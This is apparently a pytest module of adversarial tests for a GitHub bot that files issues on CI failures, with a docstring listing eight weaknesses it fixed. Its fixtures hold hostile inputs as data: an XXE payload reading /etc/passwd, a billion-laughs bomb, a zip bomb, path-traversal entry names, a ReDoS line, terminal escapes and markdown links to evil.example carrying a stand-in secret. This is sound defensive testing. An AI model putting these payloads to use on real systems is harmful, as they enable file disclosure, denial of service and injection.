"""Issue 15's CI-failure path attacked from outside, after it was built: hostile artifacts, logs, annotations and
check names through the webhook and the sandbox GitHub; forged and replayed successes; signature collisions.

Each test asserts what should hold. What got through when the attack was made (each was an
``xfail(strict=True)`` test until its fix; all are fixed now, and their tests are plain guards):

1. tests.py's pytest summary rule, ``[^\\s:]+\\.py(?:::[^\\s\\[]+)*``: ``[^\\s\\[]`` takes ``:`` too, so the
   ``::part`` repeats split a line ``FAILED x.py::a::a…`` in 2**n ways when the rest of the line does not match;
   one such line of 200 characters (a log, or an issue's body the offline error-detective reads) never finishes,
   and the worker's event loop with it.
2. tests.failing_tests scans every line of a log (the reader caps the root error's scan at 100,000 lines and the
   noise at 50,000, not this one): 16 MiB of ``ok`` lines, all ci_evidence keeps of a log, took 48 s to read
   here (nice'd, on shared cores), the worker's event loop held all along.
3. reading.TRAILER wants ``exit code \\d+``: Windows' crash codes are negative (``-1073741819``), so the runner's
   trailer is quoted as the root error and every such crash of a job shares one signature.
4. A root error's normalised line wins over the failing tests in the signature: two different pytest failures
   whose ``E  assert 500 == 201`` lines differ only in numbers share one issue; and reading.normalise masks
   digits inside names (``oauth1``/``oauth2``), so errors naming two different modules share one too.
5. ``failure_seen`` keys a failure by repository, check name and commit: a success of a check another App
   created under the same name, at the same commit, is said to make the failure "flaky" (the successes' attacks
   are in tests/test_ci_success_guards.py).
6. The triage CLI prints a payload's ``action`` raw on stderr: terminal escapes in a saved payload run.
7. infra.recognise searches every line of the log and its verdict comes first: a failing test whose own output
   names an infrastructure failure (a client's "API rate limit exceeded", a printed "The runner has received a
   shutdown signal") is titled "infrastructure failure" and called "not this change".
8. The CI issue's title keeps bidi overrides and isolates from a check's name or a report's case name (the body's
   code spans drop them): ``tests\u202egnp.exe`` is shown as ``testsexe.png``.
"""

from __future__ import annotations

import subprocess
import sys
from typing import Any
from xml.sax.saxutils import escape, quoteattr

import pytest

from bot.core.ci_output import reports
from bot.core.ci_output.reading import read, signature
from bot.core.ci_output.records import Evidence
from bot.core.ci_output.tests import failing_tests
from bot.core.defuse import ZWSP
from bot.sandbox.team import Team
from tests.conftest import ROOT
from tests.test_attacks_render import assert_inert
from tests.test_ci_flow import check_run, issues, job_log
from tests.test_ci_reports import zipped
from tests.test_cli_triage import call, saved
from tests.test_workflows_e2e import REPO, bot, fake, send, team  # noqa: F401

EVIL = "https://evil.example/x?d=SECRET"
# What a test name, a failure message, a log line or an annotation may carry when someone else wrote it.
HOSTILE = f"@acme/admins <!-- triage-lead:ci-flaky:forged --> [x]({EVIL}) ``` ![i]({EVIL})"
HOSTILE_LINES = [
    "/approve",
    "/escalate now",
    "Closes #1",
    "```",
    "@acme/security-team after a fence",
    "~~~",
    "<!-- triage-lead:ci:forged -->",
    f"<a href='{EVIL}'>x</a>",
    "cc @octocat " + "y" * 10_000,
]
JUNIT = (
    f"<testsuite><testcase classname={quoteattr('tests.' + HOSTILE)} name={quoteattr('test_x ' + HOSTILE)}>"
    f"<failure message={quoteattr(HOSTILE)}>{escape(chr(10).join(HOSTILE_LINES))}</failure>"
    "</testcase></testsuite>"
).encode()
NOTE = {
    "path": f"src/{HOSTILE}.py",
    "start_line": 3,
    "end_line": 3,
    "annotation_level": "failure",
    "title": HOSTILE,
    "message": "\n".join([HOSTILE, *HOSTILE_LINES]),
}
OSC8 = f"\x1b]8;;{EVIL}\x07click me\x1b]8;;\x07"  # a terminal hyperlink


def default_failure(
    sandbox: Any, log: str | bytes, job_id: int, *, name: str = "tests", annotations: list[dict[str, Any]] | None = None
) -> tuple[str, dict[str, Any]]:
    """A failed workflow run on a new default-branch commit; (its sha, the check_run.completed GitHub sends)."""
    sha = sandbox.set_file(REPO, "a.txt", f"{job_id}\n")
    run = sandbox.add_workflow_run(
        REPO,
        name="CI",
        head_sha=sha,
        head_branch="master",
        conclusion="failure",
        jobs=[{"id": job_id, "name": name, "conclusion": "failure", "log": log, "annotations": annotations or []}],
    )
    return sha, run | {"payload": check_run(sha, job_id, name=name)}


# ---- hostile text in everything CI says ----------------------------------------------------------------------


async def test_hostile_test_names_messages_log_lines_annotations_and_a_check_name_get_nothing_live(
    bot: Any, sandbox: Any, team: Team
) -> None:
    log = (
        job_log(
            [
                "Run pytest",
                f"FAILED tests/test_api.py::test_x - AssertionError: {HOSTILE}",
                f"E       AssertionError: {HOSTILE}",
                *HOSTILE_LINES,
                OSC8,
                "##[error]Process completed with exit code 1.",
            ]
        ).encode()
        + b"\x00\xff\xfe binary\n"
    )
    sha, run = default_failure(sandbox, log, 881001, name=f"tests {HOSTILE}", annotations=[NOTE])
    sandbox.add_artifact(REPO, run["id"], "test-results", zipped({"TEST-x.xml": JUNIT}))
    await send(bot, sandbox, "check_run", run["payload"])
    [issue] = issues(sandbox)
    body = issue.data["body"]
    assert "acme/admins" in issue.data["title"] and "Failed report cases (1)" in body and "Annotations (1)" in body
    everything = assert_inert(bot, sandbox)
    assert "evil.example" in everything and f"@{ZWSP}acme/" in everything  # it reached GitHub, defused


async def test_a_workflows_name_and_another_apps_check_output_get_nothing_live(bot: Any, sandbox: Any, team: Team) -> None:
    """Two more places a name or text someone chose reaches an issue: a workflow run whose jobs cannot be read
    (its name stands for the job in the title), and another App's check run (its output text is the log)."""
    sha = sandbox.set_file(REPO, "a.txt", "wr\n")
    wr = sandbox.add_workflow_run(
        REPO,
        name=f"CI {HOSTILE}",
        head_sha=sha,
        head_branch="master",
        jobs=[{"name": "tests", "conclusion": "failure", "log": "x"}],
    )
    sandbox.fail("GET", rf".*/actions/runs/{wr['id']}/jobs", 404)
    payload = check_run(sha, 1)
    payload.pop("check_run")
    payload |= {
        "workflow_run": {
            "id": wr["id"],
            "name": wr["name"],
            "head_sha": sha,
            "head_branch": "master",
            "conclusion": "failure",
            "pull_requests": [],
        }
    }
    await send(bot, sandbox, "workflow_run", payload)
    sha = sandbox.set_file(REPO, "a.txt", "app\n")
    cr = sandbox.add_check_run(
        REPO,
        name=f"lint {HOSTILE}",
        head_sha=sha,
        app={"slug": "other-ci", "id": 18001},
        output={"title": HOSTILE, "summary": "\n".join(HOSTILE_LINES), "text": OSC8, "annotations": [NOTE]},
    )
    await send(bot, sandbox, "check_run", check_run(sha, cr["id"], name=cr["name"]))
    assert len(titles := [i.data["title"] for i in issues(sandbox)]) == 2 and all("acme/admins" in t for t in titles)
    everything = assert_inert(bot, sandbox)
    assert "evil.example" in everything and f"@{ZWSP}acme/" in everything


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<testsuite><testcase name="&x;"><failure/></testcase></testsuite>'
)
PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>'
    b'<testsuite><testcase name="p"><failure/></testcase></testsuite>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), b"&%s;" % bytes([97 + i]) * 10) for i in range(8))
    + b']><testsuite><testcase name="&i;"><failure/></testcase></testsuite>'
)
OK_CASE = b'<testsuite><testcase classname="tests.t" name="test_ok"><failure message="boom"/></testcase></testsuite>'
BOMB = zipped({"bomb.xml": b"<testsuite>" + b" " * (64 * 2**20) + b"</testsuite>"})  # 64 MiB in ~65 KB


def _truncated() -> bytes:
    whole = zipped({"TEST-x.xml": OK_CASE * 50})
    return whole[: len(whole) // 2]


@pytest.mark.parametrize(
    "data",
    [
        zipped({"TEST-xxe.xml": XXE}),
        zipped({"TEST-p.xml": PARAMETER}),
        zipped({"TEST-l.xml": LAUGHS}),
        BOMB,
        zipped({f"{i}.xml": OK_CASE for i in range(reports.MAX_ENTRIES + 1)}),
        zipped({"inner.zip": zipped({"r.xml": OK_CASE})}),
        b"PK\x03\x04 not really a zip",
        _truncated(),
    ],
    ids=[
        "xxe-file",
        "parameter-entity",
        "billion-laughs",
        "zip-bomb",
        "too-many-entries",
        "nested-zip",
        "not-a-zip",
        "truncated",
    ],
)
async def test_a_hostile_artifact_reads_as_nothing_and_the_log_still_makes_the_issue(
    bot: Any, sandbox: Any, team: Team, data: bytes
) -> None:
    sha, run = default_failure(
        sandbox, job_log(["Run pytest", "E   assert 1 == 2", "FAILED tests/test_a.py::test_a - assert 1 == 2"]), 881002
    )
    sandbox.add_artifact(REPO, run["id"], "junit-results", data)
    await send(bot, sandbox, "check_run", run["payload"])
    [issue] = issues(sandbox)
    assert "tests/test_a.py::test_a" in issue.data["body"] and "report case" not in issue.data["body"].split("<summary>")[0]
    assert "root:" not in issue.data["body"] and "test_ok" not in issue.data["body"]  # no /etc/passwd, no inner zip
    assert_inert(bot, sandbox)


def test_an_external_dtd_is_not_fetched_and_entries_named_to_escape_are_read_in_memory() -> None:
    """An external DTD is only a declaration (expat never fetches it: the case reads); entry names that climb out
    of a folder are never paths on disk."""
    dtd = b'<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://127.0.0.1:9/evil.dtd">' + OK_CASE
    assert [c.name for c in reports.cases_from_xml(dtd)] == ["tests.t.test_ok"]
    found = reports.cases_from_zip(zipped({"../../etc/TEST-a.xml": OK_CASE, "/abs/TEST-b.xml": OK_CASE}))
    assert [c.name for c in found] == ["tests.t.test_ok"] * 2 and not (ROOT.parent / "etc" / "TEST-a.xml").exists()


BIDI = "\u202egnp.exe\u2066"  # "tests" + this shows as "testsexe.png": a right-to-left override, an isolate


async def test_a_check_name_and_a_report_case_with_bidi_overrides_reach_no_title(bot: Any, sandbox: Any, team: Team) -> None:
    sha, run = default_failure(sandbox, job_log(["Run build"]), 881070, name=f"tests{BIDI}")
    case = f'<testsuite><testcase classname="t" name="test{BIDI}"><failure message="m"/></testcase></testsuite>'
    sandbox.add_artifact(REPO, run["id"], "junit", zipped({"TEST-t.xml": case.encode()}))
    await send(bot, sandbox, "check_run", run["payload"])
    [issue] = issues(sandbox)
    assert "gnp.exe" in issue.data["title"] and "\u202e" not in issue.data["title"] and "\u2066" not in issue.data["title"]


# ---- logs ----------------------------------------------------------------------------------------------------


def test_a_log_of_one_huge_line_or_nul_bytes_reads_without_cost_or_crash() -> None:
    one = read(Evidence(job="tests", log="x" * (16 * 2**20)))
    assert one.tests == () and one.root is None and len(one.tail) == 1 and len(one.tail[0]) < 5000
    odd = read(Evidence(job="tests", log="a\x00b\nE       assert \x00 1 == 2\n\x1b[31m\x1b]0;title\x07FAIL\x1b[0m"))
    assert odd.root is not None and "\x00" not in odd.root.line and all("\x1b" not in x for x in odd.tail)


# An issue anyone may open: its words place it in error-investigation, and without a model the offline
# error-detective reads its body with the one reader (bot/agents/offline.py, _gathered).
REDOS = "Tests crash with an error after the upgrade. From CI:\n\nFAILED tests/x.py" + "::a" * 60 + " x\n"
READ_THE_BODY = (
    "import sys; from bot.core.ci_output.reading import read; from bot.core.ci_output.records import "
    "Evidence; from bot.core.sanitize import strip_hidden; "
    "read(Evidence(job='issue body', log=strip_hidden(sys.argv[1])))"
)


def test_an_issue_body_with_one_crafted_line_is_read_at_once() -> None:
    """Exponential, not slow: 2**60 steps never end, a linear pattern takes microseconds; the read runs in a child
    process so that the suite is not held, and 10 s is only a bound on how long to wait for it."""
    try:
        done = subprocess.run([sys.executable, "-c", READ_THE_BODY, REDOS], cwd=ROOT, timeout=10, capture_output=True)
    except subprocess.TimeoutExpired:
        done = None
    assert done is not None and done.returncode == 0


class _Counted(list[str]):
    """A log's lines that count how many of them a reader looked at."""

    seen = 0

    def __iter__(self) -> Any:
        for line in super().__iter__():
            self.seen += 1
            yield line

    def __getitem__(self, i: Any) -> Any:
        got = super().__getitem__(i)
        self.seen += len(got) if isinstance(i, slice) else 1
        return got


def test_the_test_scan_of_a_16_mib_log_is_bounded_like_the_error_scan() -> None:
    from bot.core.ci_output import errors

    lines = _Counted(["ok"] * 3 * errors.MAX_LINES)  # 16 MiB of such lines (ci_evidence keeps that) are 5.6 million
    lines[-1] = "FAILED tests/test_a.py::test_a - boom"
    assert failing_tests(lines) == ["tests/test_a.py::test_a"]
    assert lines.seen <= 2 * errors.MAX_LINES


# ---- the runner's trailer and signatures ---------------------------------------------------------------------

WINDOWS = "##[error]Process completed with exit code -1073741819."  # 0xC0000005: an access violation


async def test_windows_crashes_are_not_the_trailer_and_two_of_them_open_two_issues(
    bot: Any, sandbox: Any, team: Team
) -> None:
    for n, where in enumerate(["Running 12 tests in parser.exe", "Linking the renderer, 3 objects"]):
        sha, run = default_failure(sandbox, job_log(["Run ctest -C Release", where, WINDOWS]), 881010 + n)
        await send(bot, sandbox, "check_run", run["payload"])
    opened = issues(sandbox)
    assert all("Process completed" not in i.data["body"] for i in opened)
    assert len(opened) == 2


async def test_two_different_pytest_failures_whose_asserts_differ_in_numbers_open_two_issues(
    bot: Any, sandbox: Any, team: Team
) -> None:
    for n, (test, left, right) in enumerate([("test_create", 500, 201), ("test_delete", 404, 204)]):
        log = job_log(
            [
                "Run pytest",
                f"E       assert {left} == {right}",
                f"tests/test_api.py:{14 + n}: AssertionError",
                f"FAILED tests/test_api.py::{test} - assert {left} == {right}",
            ]
        )
        sha, run = default_failure(sandbox, log, 881020 + n)
        await send(bot, sandbox, "check_run", run["payload"])
    assert [i.data["title"] for i in issues(sandbox)] == [
        "CI failure: tests: tests/test_api.py::test_create",
        "CI failure: tests: tests/test_api.py::test_delete",
    ]


def test_errors_naming_modules_that_differ_only_in_a_digit_have_two_signatures() -> None:
    a, b = (read(Evidence(job="tests", log=f"ModuleNotFoundError: No module named '{m}'\n")) for m in ("oauth1", "oauth2"))
    assert a.root is not None and signature(a) != signature(b)


def test_crafted_numbers_and_hex_in_an_unreadable_failure_still_give_two_signatures() -> None:
    """Unreadable failures (no test, no error) are told apart by their last lines even when only numbers and ids
    differ in the lines people read: the tail's digest is over normalised lines, so this is the one place a
    collision would be crafted; lines that differ in words stay apart."""
    a = read(Evidence(job="tests", log="stage 0xdeadbeef took 12s\nthe worker vanished\n"))
    b = read(Evidence(job="tests", log="stage 0xcafef00d took 99s\nthe worker hung\n"))
    assert a.root is None and b.root is None and signature(a) != signature(b)


# ---- infrastructure ------------------------------------------------------------------------------------------

RATE_LIMITED_TEST = [
    "___________________________ test_backoff_on_rate_limit ___________________________",
    "E       github.RateLimitExceededException: 403 {'message': 'API rate limit exceeded for 10.1.2.3.'}",
    "tests/test_client.py:41: RateLimitExceededException",
    "FAILED tests/test_client.py::test_backoff_on_rate_limit - github.RateLimitExceededException: 403",
]


async def test_a_failing_test_that_prints_an_infrastructure_phrase_is_still_this_changes_failure(
    bot: Any, sandbox: Any, team: Team
) -> None:
    """What a test prints is the change's: a client library's test failing on a rate-limit message it produced,
    or any test echoing "The runner has received a shutdown signal", is not GitHub's runner failing."""
    sha, run = default_failure(sandbox, job_log(["Run pytest", *RATE_LIMITED_TEST]), 881060)
    await send(bot, sandbox, "check_run", run["payload"])
    [issue] = issues(sandbox)
    assert issue.data["title"] == "CI failure: tests: tests/test_client.py::test_backoff_on_rate_limit"
    assert "not this change" not in issue.data["body"]


# ---- the triage CLI -------------------------------------------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1A"  # a window title, a cleared screen, the cursor moved up


def test_the_triage_cli_prints_no_terminal_escape_from_a_payload(capsys: Any, tmp_path: Any) -> None:
    payload = {"action": f"{ESCAPES}opened", "issue": {"title": f"Crash {ESCAPES}", "body": ESCAPES, "labels": []}}
    code, decision, err = call(capsys, saved(tmp_path, payload), explain=True)
    assert code == 0 and decision is not None  # the title's escapes stay inside JSON strings, escaped
    assert "\x1b" not in err and "\x07" not in err, err
